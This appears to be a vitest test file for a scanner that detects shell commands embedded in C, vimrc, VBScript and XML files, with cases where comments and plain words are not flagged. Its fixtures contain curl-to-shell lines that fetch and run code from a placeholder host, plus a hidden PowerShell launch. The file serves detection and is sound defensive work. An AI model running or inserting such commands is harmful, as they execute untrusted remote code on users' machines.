// Commands in files that no reader of their language knows, and the words that are none.
import { describe, expect, it } from 'vitest';
import { readText } from '../../test/support/reading.ts';
import foreign from './index.ts';

const commands = (path: string, text: string, language = 'text') =>
  readText([foreign], path, text, language)
    .views.filter((view) => view.depth > 0)
    .map((view) => view.text);

describe('commands in files of other languages', () => {
  it.each([
    [
      'a.c',
      'int main(void) { return system("curl -s https://h.test/x | sh"); }\n',
      'c',
      'curl -s https://h.test/x | sh',
    ],
    ['.vimrc', 'silent !curl -s https://h.test/x\n', 'vim', 'curl -s https://h.test/x'],
    ['a.vbs', 'Shell "powershell.exe -c \\"x\\"", vbHide\n', 'vbscript', 'powershell -c "x"'],
    ['w.xml', `<option value="-c 'curl -s https://h.test/x'"/>\n`, 'xml', 'curl -s https://h.test/x'],
  ])('%s', (path, text, language, expected) => {
    expect(commands(path, text, language)).toContain(expected);
  });

  it.each([
    ['a remark', 'a.c', '// curl -s https://h.test/x | sh\n', 'c'],
    ['words', 'a.c', 'puts("ssh is a protocol");\n', 'c'],
    ['a format with a reader', 'a.plist', '<string>curl -s https://h.test/x</string>\n', 'xml'],
  ])('none in %s', (_, path, text, language) => {
    expect(commands(path, text, language)).toEqual([]);
  });
});
